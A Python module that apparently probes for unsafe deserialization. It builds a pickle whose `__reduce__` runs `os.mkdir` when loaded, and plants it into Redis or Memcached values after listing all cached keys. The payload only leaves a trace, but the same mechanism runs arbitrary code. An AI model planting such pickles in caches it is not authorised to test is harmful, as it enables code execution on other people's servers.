"""Pickles that leave a trace when they are loaded, and cache servers to write them to."""

from __future__ import annotations

import os
import pickle
from pathlib import Path
from typing import Any, Protocol

import redis
from pymemcache.client.base import Client

PICKLED_FLAG = 1
"""Flag by which pymemcache and pylibmc mark a pickled value."""


class _Trap:
    def __init__(self, folder: Path) -> None:
        self._folder = str(folder)

    def __reduce__(self) -> tuple[Any, ...]:
        return os.mkdir, (self._folder,)


def trap(folder: Path) -> bytes:
    """Return a pickle that creates `folder` when it is loaded."""
    return pickle.dumps(_Trap(folder))


class Server(Protocol):
    """Cache server, as an attacker who can write to it uses it."""

    location: str

    def values(self) -> dict[str, bytes]:
        """Return all values on the server, by key."""

    def plant(self, key: str, value: bytes) -> None:
        """Write a value marked as a pickle."""

    def close(self) -> None:
        """Close the connection."""


class Redis:
    """Redis. A planted value keeps the expiry of the value that it replaces."""

    def __init__(self, location: str) -> None:
        self.location = location
        self._client = redis.Redis.from_url(location)

    def values(self) -> dict[str, bytes]:
        return {key.decode(): self._client.get(key) or b"" for key in self._client.scan_iter()}

    def plant(self, key: str, value: bytes) -> None:
        self._client.set(key, value, keepttl=True)

    def close(self) -> None:
        self._client.close()


class Memcached:
    """Memcached. A planted value does not expire."""

    def __init__(self, location: str) -> None:
        self.location = location
        self._client = Client(location)

    def values(self) -> dict[str, bytes]:
        slabs = {name.split(b":")[1] for name in self._client.stats("items")}
        found = [self._client.stats("cachedump", slab.decode(), "0") for slab in slabs]
        keys = [key.decode() for dumped in found for key in dumped]
        return {key: value for key in keys if (value := self._client.get(key)) is not None}

    def plant(self, key: str, value: bytes) -> None:
        self._client.set(key, value, flags=PICKLED_FLAG, noreply=False)

    def close(self) -> None:
        self._client.close()
